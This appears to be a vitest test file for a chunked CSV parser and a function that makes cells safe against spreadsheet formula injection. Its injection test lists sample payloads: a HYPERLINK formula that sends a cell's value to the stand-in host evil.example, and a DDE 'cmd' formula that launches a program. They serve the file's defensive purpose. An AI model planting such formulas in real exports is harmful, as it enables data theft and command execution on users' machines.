import { describe, expect, it } from "vitest";
import { CsvParser, csvLine, spreadsheetSafeCell } from "./csv";
import { createRandom } from "./random";

function parseAll(text: string, chunkSize = 3) {
  const parser = new CsvParser();
  const records = [];
  for (let i = 0; i < text.length; i += chunkSize) records.push(...parser.push(text.slice(i, i + chunkSize)));
  records.push(...parser.end());
  return records;
}

describe("CsvParser", () => {
  it("parses quotes, escaped quotes, commas and newlines inside fields, CRLF, across chunk borders", () => {
    const text = 'id,text\r\n1,"Hello, ""world"""\r\n2,"two\nlines"\n3,plain';
    for (const size of [1, 2, 3, 7, 100]) {
      expect(parseAll(text, size)).toEqual([
        { line: 1, fields: ["id", "text"] },
        { line: 2, fields: ["1", 'Hello, "world"'] },
        { line: 3, fields: ["2", "two\nlines"] },
        { line: 5, fields: ["3", "plain"] },
      ]);
    }
  });

  it("skips blank lines and names the line of a broken quote", () => {
    expect(parseAll("a,b\n\n1,2\n").map((r) => r.fields)).toEqual([
      ["a", "b"],
      ["1", "2"],
    ]);
    expect(() => parseAll('a,b\n1,"open')).toThrow("line 2: unterminated quoted field");
    expect(() => parseAll('a,b\n1,x"y\n')).toThrow("line 2: unexpected quote");
  });
});

/** RFC 4180 quoting only (no spreadsheet safety): the writer the parser must read back exactly. */
const rfcLine = (fields: string[]) => fields.map((f) => `"${f.replaceAll('"', '""')}"`).join(",");

describe("CsvParser, line endings and edges", () => {
  it("reads records ended by a lone CR (old Mac files) as well as LF and CRLF, with their line numbers", () => {
    expect(parseAll("id\r1\r2", 1)).toEqual([
      { line: 1, fields: ["id"] },
      { line: 2, fields: ["1"] },
      { line: 3, fields: ["2"] },
    ]);
    // Blank lines are skipped but still counted, at the start of the file too.
    expect(parseAll("\nid\n", 1)).toEqual([{ line: 2, fields: ["id"] }]);
    expect(parseAll("a\n\n\nb\r\n\r\nc\n", 2)).toEqual([
      { line: 1, fields: ["a"] },
      { line: 4, fields: ["b"] },
      { line: 6, fields: ["c"] },
    ]);
  });

  it("keeps a record whose first field is empty, and a last record ending in an empty field", () => {
    expect(parseAll(",b\nx,\na,").map((r) => r.fields)).toEqual([
      ["", "b"],
      ["x", ""],
      ["a", ""],
    ]);
  });

  it("reads a quoted field at the start of the file and of each record", () => {
    expect(parseAll('"id","t"\n"1",x\n""\n', 1).map((r) => r.fields)).toEqual([
      ["id", "t"],
      ["1", "x"],
      [""],
    ]);
  });

  it("reads back exactly what an RFC 4180 writer wrote, whatever the chunk size (random fields)", () => {
    const rng = createRandom(5);
    const alphabet = ["a", "b", ",", '"', "\n", "\r", " ", "é"];
    for (let round = 0; round < 200; round++) {
      const records = Array.from({ length: 1 + Math.floor(rng() * 4) }, () =>
        Array.from({ length: 1 + Math.floor(rng() * 3) }, () =>
          Array.from(
            { length: Math.floor(rng() * 6) },
            () => alphabet[Math.floor(rng() * alphabet.length)],
          ).join(""),
        ),
      );
      const text = records.map(rfcLine).join(rng() < 0.5 ? "\n" : "\r\n");
      expect(parseAll(text, 1 + Math.floor(rng() * 5)).map((r) => r.fields)).toEqual(records);
    }
  });

  it("names its errors", () => {
    expect(() => parseAll('"open')).toThrow(expect.objectContaining({ name: "CsvError", line: 1 }));
  });
});

describe("spreadsheet-safe CSV (OWASP CSV injection)", () => {
  it("puts a single quote before a cell that a spreadsheet would read as a formula", () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "=cmd|' /C calc'!A0",
      "+1+1",
      "-2+3",
      "-",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
    ];
    for (const cell of formulas) expect(spreadsheetSafeCell(cell)).toBe(`'${cell}`);
  });

  it("leaves plain numbers and every other text as it is", () => {
    for (const cell of ["-1.5", "+3", "-0", "2e-4", "-.5", "1.", "42", "", "a=b", " =1", "'=1", "x-y", "€5"])
      expect(spreadsheetSafeCell(cell)).toBe(cell);
    for (const cell of ["-12", "-1.25", "-.25", "-1e5", "+1E+10", "-2.5e-12"])
      expect(spreadsheetSafeCell(cell)).toBe(cell);
    for (const cell of ["-1ex", "-1e", "+.", "-1.2.3"]) expect(spreadsheetSafeCell(cell)).toBe(`'${cell}`);
  });

  it("csvLine writes safe cells, quoted where RFC 4180 needs it, and they parse back with the quote", () => {
    const line = csvLine(["=1+1", "-1.5", '@x,"y"', "\r=2", "ok"]);
    expect(line).toBe(`'=1+1,-1.5,"'@x,""y""","'\r=2",ok\n`);
    expect(parseAll(line).map((r) => r.fields)).toEqual([["'=1+1", "-1.5", `'@x,"y"`, "'\r=2", "ok"]]);
  });
});
